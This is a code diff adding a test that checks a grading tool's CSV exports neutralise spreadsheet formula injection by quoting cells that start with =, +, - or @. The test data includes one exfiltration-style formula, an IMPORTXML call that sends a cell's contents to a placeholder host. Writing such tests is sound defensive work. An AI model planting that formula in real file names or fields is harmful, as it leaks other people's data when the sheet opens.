@@ -150,3 +150,39 @@ def test_a_file_name_cannot_write_control_characters_into_the_ids(tmp_path, name
     assert found.id == shown
     assert os.fsencode(found.path) == path
     assert find_submissions(found.path)[0].id == shown
+
+
+# ------------------------------------------------------------------ spreadsheets
+
+_FORMULA = '=IMPORTXML(CONCAT("http://example.invalid/?", B3), "//a")'
+
+
+def test_an_id_is_never_a_formula_in_the_gradebook(tmp_path):
+    """``grades.csv`` and ``similarity.csv`` are opened in spreadsheets. A submission named
+    ``=IMPORTXML(...)`` (a file name in a folder of notebooks, a display name on Moodle) was
+    written as it is, and a spreadsheet evaluates it: Google Sheets fetches the URL on opening,
+    with other students' grades in it. Cells starting with = + - @ get a leading quote
+    (what OWASP's "CSV injection" advice and spreadsheets themselves use for text)."""
+    import csv
+    import io
+
+    from grader.commands import DEFAULT_RUBRIC
+    from grader.report import gradebook_csv
+    from grader.rubric import load_rubric
+    from grader.runner import unreadable_result
+    from grader.similarity import find_similar, write_similarity_csv
+
+    rubric = load_rubric(DEFAULT_RUBRIC)
+    ids = [_FORMULA, "+1", "-2", "@SUM(A1)", "ada"]
+    text = gradebook_csv(rubric, [unreadable_result(rubric, submission_id=i, path="x", message="")
+                                  for i in ids])
+    column = [row[0] for row in csv.reader(io.StringIO(text))][1:]
+    assert sorted(column) == sorted(["'" + i for i in ids[:4]] + ["ada"])
+
+    body = "def f(x):\n" + "".join(f"    v{i} = np.tanh(x * {i}.5) + {i}\n" for i in range(8)) + "    return v7\n"
+    report = find_similar({_FORMULA: {"f": body}, "bob": {"f": body.replace("v", "w")}})
+    path = tmp_path / "similarity.csv"
+    write_similarity_csv(report, path)
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert {rows[1][1], rows[1][2]} == {"'" + _FORMULA, "bob"}
